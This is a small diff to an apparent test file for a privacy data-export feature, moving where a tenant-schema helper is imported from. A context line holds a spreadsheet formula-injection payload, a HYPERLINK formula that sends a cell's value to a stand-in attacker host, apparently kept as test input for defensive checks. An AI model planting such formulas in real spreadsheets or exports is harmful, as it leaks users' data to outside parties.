@@ -6,9 +6,9 @@ import zipfile
 
 from privacy.export import export_zip_write
 from privacy.models import SubjectRequest
-from tests.conftest import in_schema
 from tests.factories import UserFactory
 from tests.meetings.factories import MeetingFactory
+from tests.support.tenants import in_schema
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
